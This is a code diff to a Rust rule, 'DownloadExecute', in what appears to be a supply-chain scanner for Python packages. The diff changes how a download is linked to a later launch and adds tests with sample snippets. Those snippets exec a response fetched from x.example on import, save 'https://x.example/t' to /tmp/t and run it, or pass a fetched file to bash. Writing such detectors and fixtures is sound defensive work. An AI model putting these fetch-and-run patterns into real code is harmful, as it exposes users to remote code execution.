@@ -139,8 +139,9 @@ impl Rule for DownloadExecute {
                 || untrusted_source
                 || install_clone
                 || hidden(run)
-                || shares_target(download, run)
-                || runs_a_written_name(code, run);
+                // A tool of its own run on the file fetched (`flatc -p schema.fbs`) reads
+                // it as data; the same file handed to a shell or interpreter is run.
+                || !tool_on_data(download, run) && (shares_target(download, run) || runs_a_written_name(code, run));
             let severity = match stage {
                 Stage::Install | Stage::Import if pip || !linked => Severity::High,
                 Stage::Install | Stage::Import => Severity::Critical,
@@ -173,18 +174,12 @@ impl Rule for DownloadExecute {
 /// The launch names what the download wrote: a path string or a variable of
 /// the download's arguments (not its URL) reappears in the launch's.
 fn shares_target(download: &Call, run: &Call) -> bool {
-    let paths = download
+    let mut paths = download
         .arg_strs
         .iter()
         .filter(|a| !a.contains("://") && a.len() >= 3 && a.replace("{}", "").trim().len() >= 3);
-    let names = download
-        .arg_names
-        .iter()
-        .filter(|n| !matches!(n.as_str(), "url" | "self" | "headers"));
-    paths
-        .clone()
-        .any(|p| run.arg_strs.iter().any(|r| r.contains(p.as_str())))
-        || names.clone().any(|n| run.arg_names.contains(n))
+    let mut names = variables(download).filter(|n| !matches!(*n, "url" | "headers"));
+    paths.any(|p| run.arg_strs.iter().any(|r| r.contains(p.as_str()))) || names.any(|n| variables(run).any(|r| r == n))
 }
 
 /// The launch names a variable that the same function opened for writing
@@ -194,8 +189,41 @@ fn runs_a_written_name(code: &crate::inspect::python::PyFile, run: &Call) -> boo
         c.name == "open"
             && c.scope == run.scope
             && c.arg_strs.iter().any(|m| m.len() <= 3 && m.starts_with('w'))
-            && c.arg_names.iter().any(|n| run.arg_names.contains(n))
+            && variables(c).any(|n| variables(run).any(|r| r == n))
     })
+}
+
+/// The names of a call's arguments that can hold its data: not the modules,
+/// functions and methods it calls on the way (`os`, `path`, `join` of
+/// `os.path.join(os.getcwd(), name)`, `format`), which every path shares.
+fn variables(call: &Call) -> impl Iterator<Item = &str> {
+    call.arg_names.iter().map(String::as_str).filter(|n| {
+        !matches!(
+            *n,
+            "self" | "format" | "join" | "encode" | "decode" | "replace" | "strip"
+        ) && !call
+            .arg_refs
+            .iter()
+            .any(|r| r.split(['.', '(', ')']).any(|seg| seg == *n))
+    })
+}
+
+/// The launch runs a named tool on data rather than a program (see
+/// [`vocab::runs_a_tool_on_data`]), and the tool is not the file downloaded
+/// (`urlretrieve(u, "/tmp/t"); run(["/tmp/t"])`).
+fn tool_on_data(download: &Call, run: &Call) -> bool {
+    let Some(argv) = run.arg_strs.first() else { return false };
+    let program = argv.split_whitespace().next().unwrap_or("");
+    vocab::is_shell(&run.name)
+        && !matches!(
+            run.name.as_str(),
+            "os.startfile" | "os.execv" | "os.execve" | "os.execl" | "os.execlp" | "os.execvp"
+        )
+        && vocab::runs_a_tool_on_data(argv)
+        && !download
+            .arg_strs
+            .iter()
+            .any(|p| !p.contains("://") && p.len() >= 3 && (program.contains(p.as_str()) || p.contains(program)))
 }
 
 /// `curl`/`wget`/`git` run as a program: another download, not a launch of what was fetched.
@@ -478,6 +506,61 @@ mod tests {
             "import subprocess, urllib.request\ndata = urllib.request.urlopen('https://example.com/a').read()\nsubprocess.run(['python', '-m', 'build'])\n",
         );
         assert!(f.iter().all(|f| f.severity < Severity::Critical), "{f:?}");
+    }
+
+    #[test]
+    fn fires_on_a_response_bound_by_with() {
+        // Error: the response of a `with … as resp:` block executed on import.
+        let src = "import types\nimport urllib.request as request\ndef update():\n    with request.urlopen('https://x.example/check', timeout=10) as resp:\n        m = types.ModuleType('m')\n        exec(resp.read(), m.__dict__)\nupdate()\n";
+        let f = check(&DownloadExecute, Kind::Wheel, &[("pkg/__init__.py", src)]);
+        assert_eq!(f.iter().map(|f| f.severity).max(), Some(Severity::Critical), "{f:?}");
+        // No error: a version file read with `with open(…) as f` and executed.
+        let src = "ns = {}\nwith open('pkg/_version.py') as f:\n    exec(f.read(), ns)\n";
+        assert!(setup_py(&DownloadExecute, src).is_empty());
+    }
+
+    #[test]
+    fn a_launch_sharing_only_module_names_with_a_written_file_is_not_linked() {
+        // No error at critical (held-out pop-f): a driver download and an unrelated
+        // command that share only `os.path.join(os.getcwd(), …)` with a file written.
+        let src = "import os, subprocess, urllib.request\ndata = urllib.request.urlopen('https://vendor.example.com/d.tgz').read()\nopen(os.path.join(os.getcwd(), 'setup.cfg'), 'w').write('x')\nsubprocess.run(['tso', 'oput {}'.format(os.path.join(os.getcwd(), lib))])\n";
+        let f = setup_py(&DownloadExecute, src);
+        assert_eq!(f.iter().map(|f| f.severity).max(), Some(Severity::High), "{f:?}");
+        // Error: the launch runs the file written.
+        let src = "import os, subprocess, urllib.request\ndata = urllib.request.urlopen('https://vendor.example.com/d').read()\nopen(tool, 'wb').write(data)\nsubprocess.run([tool])\n";
+        let f = setup_py(&DownloadExecute, src);
+        assert_eq!(f.iter().map(|f| f.severity).max(), Some(Severity::Critical), "{f:?}");
+    }
+
+    #[test]
+    fn a_tool_reading_the_downloaded_file_is_not_a_launch() {
+        // No error at critical (held-out pop-f): a schema fetched and compiled with flatc.
+        let src = "import subprocess, tempfile, wget\nURL = 'https://github.com/o/r/raw/master/schema.fbs'\nschema_path = tempfile.mktemp()\nwget.download(URL, schema_path)\nsubprocess.call(['flatc', '-p', '-o', 'out', schema_path])\n";
+        let f = check(&DownloadExecute, Kind::Wheel, &[("tools/gen.py", src)]);
+        assert!(f.iter().all(|f| f.severity < Severity::Critical), "{f:?}");
+        // Error: the file fetched is the program run.
+        let src2 = "import subprocess, urllib.request\nurllib.request.urlretrieve('https://x.example/t', '/tmp/t')\nsubprocess.call(['/tmp/t', '-d'])\n";
+        let f = setup_py(&DownloadExecute, src2);
+        assert!(f.iter().any(|f| f.severity == Severity::Critical), "{f:?}");
+        // Error: the same file handed to a shell.
+        let f = check(
+            &DownloadExecute,
+            Kind::Wheel,
+            &[("tools/gen.py", &src.replace("'flatc', '-p', '-o', 'out'", "'bash'"))],
+        );
+        assert!(f.iter().any(|f| f.severity == Severity::Critical), "{f:?}");
+        for (argv, tool) in [
+            ("flatc -p -o {} {}", true),
+            ("tar xzf {}", true),
+            ("/usr/bin/python3.11 {}", false),
+            ("bash {}", false),
+            ("{} --install", false),
+            ("flatc {} && sh {}", false),
+            ("setup.bat", false),
+            ("cmd.exe /c {}", false),
+        ] {
+            assert_eq!(vocab::runs_a_tool_on_data(argv), tool, "{argv}");
+        }
     }
 
     #[test]
